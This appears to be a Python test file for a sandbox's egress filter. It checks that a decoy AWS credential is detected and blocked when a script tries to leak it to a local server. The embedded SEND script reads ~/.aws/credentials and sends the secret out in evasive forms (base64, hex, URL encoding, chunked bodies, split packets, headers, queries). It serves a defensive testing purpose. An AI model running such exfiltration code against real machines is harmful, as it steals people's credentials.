"""A decoy's value in a connection to a host that may be reached: found in its first bytes, told as an
exfiltration attempt, and kept from going on."""

import base64
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
from harness import SECRET, test  # noqa: E402
from local_server import LocalServer  # noqa: E402

FACTS = {"rows": "A120", "stops": "decoys", "event": "decoy.leaked"}

LOG = ("--on-alert", "log")

# SEND hands the credential file, in the form `way`, to a server that the sandbox may reach.
SEND = """
import base64, http.client, os, socket, sys, urllib.parse
port, way = int(sys.argv[1]), sys.argv[2]
key = open(os.path.expanduser("~/.aws/credentials")).read().split("secret_access_key = ")[1].strip()
key = {"base64": lambda k: base64.b64encode(k.encode()).decode(), "hex": lambda k: k.encode().hex(),
       "url": lambda k: "".join(f"%{ord(c):02x}" for c in k)}.get(way, lambda k: k)(key)
connection = http.client.HTTPConnection("localhost", port, timeout=10)
try:
    if way == "raw" or way == "pieces":
        s = socket.create_connection(("localhost", port))
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        text = "POST /x HTTP/1.1\\r\\nHost: localhost:%d\\r\\nContent-Length: %d\\r\\n\\r\\n" % (port, len(key)) + key
        step = 7 if way == "pieces" else len(text)
        for at in range(0, len(text), step):
            s.sendall(text[at:at + step].encode())
        s.recv(100)
    elif way == "header":
        connection.request("GET", "/x", headers={"X-Key": key})
    elif way == "query":
        connection.request("GET", "/x?" + urllib.parse.quote(key))
    elif way == "chunked":
        connection.request("POST", "/x", body=iter([b"a" * 100, key.encode()]), encode_chunked=True)
    elif way == "second":
        connection.request("GET", "/x")
        connection.getresponse().read()
        connection.request("POST", "/x", body=key)
    else:
        connection.request("POST", "/x", body="k=" + key)
    if way not in ("raw", "pieces"):
        connection.getresponse().read()
    print("sent")
except (OSError, http.client.HTTPException) as error:
    print("not sent", repr(error))
"""


def send(way, protocol="", encoding="plain"):
    def body(t):
        server = LocalServer({"/x": b"thanks"})
        command = ("/usr/bin/python3", "-c", SEND, server.port, way)
        t.contains(t.bare(*command).out, "sent", "control")
        got = lambda: "".join(server.requests) + b"".join(server.bodies).decode()  # noqa: E731
        forms = (SECRET, base64.b64encode(SECRET.encode()).decode(), SECRET.encode().hex(),
                 "".join(f"%{ord(c):02x}" for c in SECRET))
        t.true(way == "header" or any(form in got() for form in forms), f"control: {got()}")
        server.requests.clear()
        server.bodies.clear()
        if protocol:
            t.write(t.home / ".config/sandbox-run/config.toml",
                    f'[[egress]]\nhost = "localhost"\nports = [{server.port}]\nprotocol = "{protocol}"\nfor = "any"\n')
        allowed = [] if protocol else ["--allow-host", f"localhost:{server.port}"]
        result = t.sandbox(*command, options=[*LOG, *allowed])
        t.contains(result.out, "not sent", result)
        leaked = [e for e in result.of_type("decoy.leaked") if e["details"]["channel"] == "a connection's first bytes"]
        t.equal([(e["severity"], e["details"]["encoding"], e["details"]["port"], e["process"]["argv"][0]) for e in leaked],
                [("alert", encoding, server.port, "/usr/bin/python3")], result)
        t.true(leaked[0]["details"]["decoy"].endswith("/.aws/credentials"), leaked)
        t.contains(result.said, "tried to give away the decoy ~/.aws/credentials")
        t.lacks(result.err, "to allow it")
        t.equal(server.bodies, [], "it did not arrive")
        t.equal(server.requests, ["/x"] if way == "second" else [])
        t.equal([e["details"]["reason"] for e in result.of_type("flow.denied")],
                ["it would give a decoy's value away"])

    body.__doc__ = f"a decoy's value in a request to an allowed host ({way}{', any protocol' if protocol else ''}) is" \
                   " an exfiltration attempt, and does not get there"
    test(body)


for each in ("body", "raw", "pieces", "header", "query", "chunked", "second"):
    send(each)
for each in ("base64", "hex", "url"):
    send(each, encoding=each)
send("raw", protocol="any")


@test(rows="", stops="nothing", event="none")
def honest_requests(t):
    """requests that hold no decoy's value get there, large ones whole"""
    server = LocalServer({"/x": b"thanks"})
    text = "import http.client, sys\nc = http.client.HTTPConnection('localhost', int(sys.argv[1]))\n" \
           "for n in (0, 10, 40_000, 3_000_000):\n c.request('POST', '/x', body=b'AKIA%41' * n)\n c.getresponse().read()"
    t.succeeded(t.sandbox("/usr/bin/python3", "-c", text, server.port, options=["--allow-host", f"localhost:{server.port}"]))
    t.equal([len(b) for b in server.bodies], [0, 70, 280_000, 21_000_000])
